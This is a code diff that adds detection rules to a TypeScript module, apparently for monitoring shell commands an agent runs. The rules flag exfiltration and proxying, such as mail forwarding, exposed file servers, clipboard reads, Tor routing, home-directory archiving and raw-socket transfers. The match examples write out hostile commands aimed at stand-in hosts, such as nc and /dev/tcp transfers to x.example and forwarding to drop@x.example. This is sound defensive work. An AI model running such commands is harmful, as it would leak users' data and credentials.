@@ -6,14 +6,16 @@
  */
 import type { Rule } from '../rule.js';
 import type { ShellCommand } from '../shell/model.js';
-import { CURL_VALUED, effectsOf, parseOpts, type Send } from '../effects/index.js';
+import { CURL_VALUED, effectsOf, opts, parseOpts, resolveIn, type Send } from '../effects/index.js';
+import { idiomRule, writtenText } from './idioms.js';
 
 /** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
 export function isLoopbackHost(host: string): boolean {
   return /^(?:localhost|localhost\.localdomain|127(?:\.\d+){3}|\[::1\]|::1|0\.0\.0\.0|host\.docker\.internal)$/.test(host);
 }
 
-const remoteSends = (sends: Send[]) => sends.filter((s) => !isLoopbackHost(s.host));
+// mail handed to a local SMTP server is relayed on: the loopback host is not where it ends
+const remoteSends = (sends: Send[]) => sends.filter((s) => s.channel === 'mail' || !isLoopbackHost(s.host));
 
 /** Services that take anonymous uploads or catch any request for someone to read later: paste
  * bins, file drops, request catchers, chat webhooks (data posted there is published). */
@@ -104,6 +106,9 @@ export function legacyChannel(c: ShellCommand): boolean {
       return args.some((a) => !a.startsWith('-') && /[\w-]\.[\w-]/.test(a));
     case 'cancel':
       return args.some((a, i) => args[i - 1] === '-h' && /:\d+$/.test(a) && !isLoopbackHost(a.replace(/:\d+$/, '').toLowerCase()));
+    case 'curl':
+      // gopher:// and dict:// send the URL path verbatim as the bytes of a raw TCP connection
+      return args.some((a) => /^(?:gopher|dict):\/\/([^/:]+)/i.test(a) && !isLoopbackHost((/^\w+:\/\/([^/:]+)/.exec(a)?.[1] ?? '').toLowerCase()));
     default:
       return false;
   }
@@ -135,7 +140,244 @@ export function capturesScreen(c: ShellCommand): boolean {
   }
 }
 
+/** An address that listens on every interface (or on a routable one), not only this machine. */
+const isWildcardOrRemote = (host: string) => host === '' || host === '*' || /^(?:0\.0\.0\.0|::|\[::\])$/.test(host) || (!isLoopbackHost(host.toLowerCase()) && /^[\d.]+$|^\[/.test(host));
+
+/** A directory whose files are not a project's: the root, a home directory, system configuration. */
+const SENSITIVE_ROOT = /^(?:\/|~|\/root|\/etc|\/var|\/home(?:\/[^/]+)?|\/Users(?:\/[^/]+)?|\/private\/etc)\/?$/;
+/** A port below 1024: only root binds it, which a development preview server has no need for. */
+const privilegedPort = (p: string | undefined) => p !== undefined && /^\d+$/.test(p) && Number(p) < 1024;
+
+/**
+ * True when a command serves files over HTTP to other machines (GTFOBins `upload` entries: the
+ * files are fetched from outside): a static server (`php -S`, `python -m http.server`, `ruby -run
+ * -e httpd`, `busybox httpd`) on every interface that serves the root, a home or a system
+ * directory, or listens on a privileged port; code building such a server on every interface
+ * (`TCPServer(("", P), SimpleHTTPRequestHandler)`); `kubectl proxy --address 0.0.0.0` (the
+ * cluster API, without credentials, to the network). The preview servers developers start all
+ * day (`python3 -m http.server 8000`, `php -S 0.0.0.0:8000 -t public` in a container) are left alone.
+ */
+export function servesFiles(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase();
+  const valueOf = (...names: string[]) => {
+    const i = args.findIndex((a) => names.includes(a));
+    return i >= 0 ? args[i + 1] : undefined;
+  };
+  const served = (dir: string | undefined) => SENSITIVE_ROOT.test(resolveIn(c.cwd, dir ?? '.'));
+  if (/^php[0-9.]*$/.test(name)) {
+    const addr = valueOf('-S');
+    if (addr === undefined) return false;
+    const host = addr.replace(/:\d+$/, '');
+    return isWildcardOrRemote(host) && (privilegedPort(/:(\d+)$/.exec(addr)?.[1]) || served(valueOf('-t')));
+  }
+  if (/^python[0-9.]*$/.test(name)) {
+    const m = args.indexOf('-m');
+    if (m >= 0 && /^(?:http\.server|SimpleHTTPServer)$/.test(args[m + 1] ?? '')) {
+      const bind = valueOf('--bind', '-b');
+      const port = args.slice(m + 2).find((a) => /^\d+$/.test(a));
+      return (bind === undefined || isWildcardOrRemote(bind)) && (privilegedPort(port) || served(valueOf('--directory', '-d')));
+    }
+    const code = args.join(' ');
+    return /SimpleHTTPRequestHandler|http\.server|SimpleHTTPServer/.test(code) && /\(\s*\(\s*(?:""|''|["']0\.0\.0\.0["']|["']::["'])\s*,/.test(code);
+  }
+  if (/^ruby[0-9.]*$/.test(name)) {
+    if (!/(?:^|\s)-run\s+-e\s*httpd\b|-e\s+httpd\b/.test(args.join(' ')) || args.some((a) => /^--bind-address=(?:127\.|localhost)/.test(a))) return false;
+    const e = args.indexOf('httpd');
+    const dir = args.slice(e + 1).find((a, i, r) => !a.startsWith('-') && !/^-/.test(r[i - 1] ?? ''));
+    return privilegedPort(valueOf('-p', '--port')) || served(dir);
+  }
+  // busybox is stripped as a wrapper: its applet is the command (`busybox httpd -f -p 8080`)
+  const busybox = name === 'busybox' ? args[0] === 'httpd' : name === 'httpd' && c.wrappers.includes('busybox');
+  if (busybox) {
+    const p = valueOf('-p') ?? '80';
+    return !/^(?:127\.|localhost:|\[::1\])/.test(p) && (privilegedPort(p.replace(/^.*:/, '')) || served(valueOf('-h')));
+  }
+  if (name === 'kubectl' && args[0] === 'proxy') {
+    const a = args.find((x) => x.startsWith('--address='))?.slice(10) ?? valueOf('--address');
+    return a !== undefined && isWildcardOrRemote(a);
+  }
+  return false;
+}
+
+/** True when a command reads the clipboard: pbpaste, xclip -o, xsel -o/--output, wl-paste,
+ * termux-clipboard-get, PowerShell Get-Clipboard or Clipboard::GetText, AppleScript `the clipboard`. */
+export function readsClipboard(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  switch (c.name.toLowerCase().replace(/\.exe$/, '')) {
+    case 'pbpaste':
+    case 'wl-paste':
+    case 'termux-clipboard-get':
+    case 'get-clipboard':
+    case 'gcb':
+      return !args.some((a) => a === '--help' || a === '-h');
+    case 'xclip':
+      return args.some((a) => /^-o(?:ut)?$/.test(a));
+    case 'xsel':
+      return args.some((a) => /^-[a-zA-Z]*o[a-zA-Z]*$|^--output$/.test(a));
+    case 'osascript':
+      return /\bthe clipboard\b/i.test(args.join(' ')) && !/\bset the clipboard\b/i.test(args.join(' '));
+    default:
+      return /\bClipboard\]::(?:GetText|GetData|GetImage|GetFileDropList)\b/i.test(writtenText(c));
+  }
+}
+
+/**
+ * True when traffic is routed through a proxy or Tor, or a port forwarded on the host: macOS
+ * networksetup -set…proxy, Windows netsh interface portproxy add / netsh winhttp set proxy, GNOME
+ * proxy settings, Tor started (tor, its service), a command run through proxychains, torsocks or
+ * torify. Setting http_proxy for one command is ordinary and is left alone.
+ */
+export function routesTraffic(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase().replace(/\.exe$/, '');
+  if (c.wrappers.some((w) => /^(?:proxychains4?|torsocks|torify|tsocks)$/.test(w)) || /^(?:proxychains4?|torsocks|torify|tsocks)$/.test(name)) return true;
+  switch (name) {
+    case 'networksetup':
+      return args.some((a) => /^-set(?:web|secureweb|socksfirewall|ftp|streaming|gopher)proxy$|^-setautoproxyurl$/i.test(a));
+    case 'netsh':
+      return /\binterface\s+portproxy\s+(?:add|set)\b|\bwinhttp\s+set\s+proxy\b/i.test(args.join(' '));
+    case 'gsettings':
+      return args[0] === 'set' && /^org\.gnome\.system\.proxy/.test(args[1] ?? '');
+    case 'tor':
+      return !args.some((a) => /^--(?:version|help|hash-password|verify-config|list-\w+)$/.test(a));
+    case 'systemctl':
+    case 'service':
+    case 'rc-service':
+      return args.includes('tor') && args.some((a) => /^(?:start|enable|restart)$/.test(a));
+    case 'brew':
+      return args[0] === 'services' && /^(?:start|run|restart)$/.test(args[1] ?? '') && args[2] === 'tor';
+    case 'sysrc':
+      return args.some((a) => /^tor_enable=["']?YES/i.test(a));
+    default:
+      return false;
+  }
+}
+
+/** A user's whole home or profile directory, a variable naming one (`~/$USERNAME`), or the login
+ * records and authentication logs. */
+const COLLECTED_ROOT = /^(?:~|~\/\*(?:\.\w+)?|~\/\$\{?\w+\}?|\/root|\/home\/[^/]+|\/Users\/[^/]+|\/home|\/Users)\/?$|^\/var\/log\/(?:[wb]tmp|lastlog|auth\.log|secure|faillog)$|^\/var\/log\/?$/;
+const PROFILE = /^(?:\$env:USERPROFILE|%USERPROFILE%|\$HOME|C:[\\/]+Users(?:[\\/]+[^\\/*]+)?)(?:[\\/]+AppData(?:[\\/]+(?:Roaming|Local))?)?(?:[\\/]*|[\\/]+\*(?:\.\w+)?)$/i;
+
+/** The files an archiver packs (operands other than the archive it writes), or null for another program. */
+function archiveInputs(c: ShellCommand): string[] | null {
+  const args = c.argv.slice(1);
+  const name = c.name.toLowerCase().replace(/\.exe$/, '');
+  if (name === 'tar' || name === 'bsdtar' || name === 'gtar') {
+    const first = args[0] ?? '';
+    if (!(/^-?[a-zA-Z]*c/.test(first) && !first.startsWith('--')) && !args.includes('--create')) return null;
+    const out: string[] = [];
+    for (let i = 0; i < args.length; i++) {
+      const a = args[i]!;
+      if (a.startsWith('-') || i === 0) {
+        // the archive after -f (or the f of the first bundle), and -C DIR, take a value
+        if (/^-?[a-zA-Z]*f$/.test(a) || a === '-C' || a === '--file' || a === '--directory') i++;
+        continue;
+      }
+      out.push(a);
+    }
+    return out;
+  }
+  if (name === 'zip') return opts(c).operands.slice(1);
+  if (/^(?:7z|7za|7zz|rar|winrar)$/.test(name)) {
+    // Windows paths as written (`%USERPROFILE%\*.txt`: a backslash is a separator there)
+    const written = writtenText(c).split(/\s+/).slice(1).map((w) => w.replace(/^["']|["']$/g, ''));
+    const list = written.length === args.length ? written : args;
+    return /^[au]$/.test(list[0] ?? '') ? list.slice(1).filter((a) => !a.startsWith('-')).slice(1) : null;
+  }
+  if (/^compress-archive$/.test(name)) {
+    // PowerShell paths as written: a backslash is a path separator there, not an escape
+    const words = (x: ShellCommand) => writtenText(x).split(/\s+/).slice(1).map((w) => w.replace(/^["']|["']$/g, ''));
+    const own = words(c);
+    const path = own.flatMap((a, i) => (/^-(?:Path|LiteralPath)$/i.test(own[i - 1] ?? '') ? [a] : []));
+    const fed = c.pipeline && c.stage > 0 ? words(c.pipeline.stages[c.stage - 1]!).filter((a) => !a.startsWith('-')) : [];
+    return [...path, ...fed];
+  }
+  return null;
+}
+
+/** True when a whole home or profile directory, or the login records, are packed into an archive. */
+export function archivesCollection(c: ShellCommand): boolean {
+  const inputs = archiveInputs(c);
+  return inputs !== null && inputs.some((p) => COLLECTED_ROOT.test(resolveIn(c.cwd, p).replace(/\/+$/, '') || '/') || PROFILE.test(p));
+}
+
 export const EXFIL_RULES: Rule[] = [
+  idiomRule({
+    id: 'mail-forwarding-rule',
+    name: 'Mail forwarded outside',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1114.003',
+    description: 'A mailbox or transport rule that forwards, redirects or blind-copies mail: Exchange New-/Set-InboxRule -ForwardTo/-RedirectTo/-ForwardAsAttachmentTo, Set-Mailbox -ForwardingSmtpAddress/-ForwardingAddress, New-/Set-TransportRule -BlindCopyTo/-RedirectMessageTo/-AddToRecipients.',
+    help: 'Every matching message goes on to the address from now on, unseen by the owner. Check the address and who asked for the rule.',
+    examples: {
+      match: ['New-InboxRule -Name x -ForwardTo drop@x.example', 'Set-Mailbox -Identity ceo -ForwardingSmtpAddress drop@x.example', 'New-TransportRule -Name x -BlindCopyTo drop@x.example'],
+      not_match: ['Get-InboxRule -Mailbox ops', 'Set-Mailbox -Identity ops -ForwardingSmtpAddress $null', 'New-InboxRule -Name x -MoveToFolder ops:\\Archive'],
+    },
+    idioms: [
+      // the value is an address (a literal with an @; `$null` clears the forward)
+      { re: /\b(?:New|Set)-InboxRule\b.*\s-(?:ForwardTo|RedirectTo|ForwardAsAttachmentTo)\s+["']?[^\s"'$]*@/i },
+      { re: /\bSet-Mailbox\b.*\s-(?:ForwardingSmtpAddress|ForwardingAddress)\s+["']?(?:smtp:)?[^\s"'$]*@/i },
+      { re: /\b(?:New|Set)-TransportRule\b.*\s-(?:BlindCopyTo|RedirectMessageTo|AddToRecipients|CopyTo)\s+["']?[^\s"'$]*@/i },
+    ],
+  }),
+  {
+    id: 'files-served-to-network',
+    name: 'Files served to other machines',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'A static HTTP server on every interface that serves the root, a home or a system directory or listens on a privileged port (php -S 0.0.0.0:80, python -m http.server 80, ruby -run -e httpd / -p 8000, busybox httpd -h /), code serving SimpleHTTPRequestHandler on ("", PORT), kubectl proxy --address 0.0.0.0. Preview servers of a project directory (python3 -m http.server 8000, php -S 0.0.0.0:8000 -t public) do not fire.',
+    help: 'Anyone who can reach the machine can download the directory (or, through kubectl proxy, talk to the cluster API without credentials). Check what is served and to whom.',
+    examples: {
+      match: ['php -S 0.0.0.0:80', 'ruby -run -e httpd / -p 8000', 'kubectl proxy --address=0.0.0.0 --accept-hosts=.*'],
+      not_match: ['php -S 0.0.0.0:8000 -t public', 'python3 -m http.server 8000', 'kubectl proxy --port=8001'],
+    },
+    match: { command: servesFiles },
+  },
+  {
+    id: 'clipboard-read',
+    name: 'Clipboard read',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1115',
+    description: 'Reading the clipboard: pbpaste, xclip -o, xsel -o, wl-paste, termux-clipboard-get, PowerShell Get-Clipboard or [Clipboard]::GetText, AppleScript "the clipboard".',
+    help: 'The clipboard holds whatever the user copied last, often a password or a token. An agent has no need to read it; check why.',
+    examples: {
+      match: ['pbpaste > /tmp/c.txt', 'xclip -selection clipboard -o', 'Get-Clipboard'],
+      not_match: ['echo done | pbcopy', 'xclip -selection clipboard < key.pub', 'cat notes.txt'],
+    },
+    match: { command: readsClipboard },
+  },
+  {
+    id: 'traffic-proxied',
+    name: 'Traffic routed through a proxy or Tor',
+    category: 'command-and-control',
+    action: 'record',
+    attack: 'T1090',
+    description: 'The host\'s traffic sent through a proxy, a port forward or Tor: networksetup -setwebproxy/-setsecurewebproxy/-setsocksfirewallproxy, netsh interface portproxy add, netsh winhttp set proxy, gsettings org.gnome.system.proxy, tor or its service started, a command run through proxychains, torsocks or torify.',
+    help: 'A system proxy sees (and can change) every connection; Tor and port forwards hide where traffic goes. Check who asked for it.',
+    examples: {
+      match: ['networksetup -setwebproxy Wi-Fi 10.0.0.9 8080', 'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.9 connectport=443', 'sudo systemctl start tor'],
+      not_match: ['networksetup -listallnetworkservices', 'HTTPS_PROXY=http://proxy.corp:3128 npm install', 'netsh interface show interface'],
+    },
+    match: { command: routesTraffic },
+  },
+  {
+    id: 'collection-archive',
+    name: 'Home directory or login records archived',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1560.001',
+    description: 'A whole home or profile directory (~, /home/USER, /Users/USER, /root, $env:USERPROFILE, AppData) or the login records and authentication logs (/var/log/wtmp, btmp, lastlog, auth.log, secure) packed with tar -c, zip, 7z a, rar a or Compress-Archive.',
+    help: 'Collecting everything a user has into one file is the step before sending it out. A project or build directory is not matched; check why the whole home is packed.',
+    examples: {
+      match: ['tar -czf /tmp/h.tgz ~', 'zip -r /tmp/u.zip /home/alice', 'Compress-Archive -Path $env:USERPROFILE -DestinationPath C:\\Temp\\p.zip'],
+      not_match: ['tar -czf dist.tgz ./build', 'zip -r site.zip ~/projects/site', 'tar -xzf ~/downloads/a.tgz'],
+    },
+    match: { command: archivesCollection },
+  },
   {
     id: 'screen-capture',
     name: 'Screen captured',
@@ -156,7 +398,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1048',
-    description: 'A legacy protocol client pointed at a host to carry data either way: finger user@host, whois -h HOST -p PORT on a port other than 43, rlogin/rsh/rexec to a host, cancel -h HOST:PORT.',
+    description: 'A legacy protocol client pointed at a host to carry data either way: finger user@host, whois -h HOST -p PORT on a port other than 43, rlogin/rsh/rexec to a host, cancel -h HOST:PORT, curl gopher:// or dict:// (the URL path goes out as raw bytes).',
     help: 'These clients send what they are given and print what comes back, past filters that watch HTTP. Check the host and the data.',
     examples: {
       match: ['finger x@x.example', 'whois -h x.example -p 8443 data', 'rlogin -l x -p 12345 x.example'],
@@ -212,7 +454,7 @@ export const EXFIL_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1105',
-    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file, socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
+    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file (a listener\'s too), socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
     help: 'Raw sockets move tools in and data out past proxies and logs. Check the host and the file.',
     examples: {
       match: ['nc x.example 12345 > /tmp/tool', 'socat -u tcp-connect:x.example:12345 open:/tmp/f,creat', "bash -c 'echo \"$(</dev/tcp/x.example/12345)\" > /tmp/f'"],
@@ -222,6 +464,8 @@ export const EXFIL_RULES: Rule[] = [
       command: (c) => {
         const toFile = c.redirects.some((r) => /^1?(?:>|>>)$/.test(r.op) && r.target && !r.target.startsWith('/dev/'));
         if (/^(?:nc|ncat|netcat|telnet)$/.test(c.name)) {
+          // a listener writing what it receives into a file (`nc -l -p 12345 > tool`)
+          if (toFile && c.argv.slice(1).some((a) => /^-[a-zA-Z]*l/.test(a) || a === '--listen')) return true;
           const host = c.argv.slice(1).find((a) => !a.startsWith('-') && !/^\d+$/.test(a));
           return toFile && host !== undefined && !isLoopbackHost(host.toLowerCase()) && !c.argv.some((a) => /^-[a-zA-Z]*z/.test(a));
         }
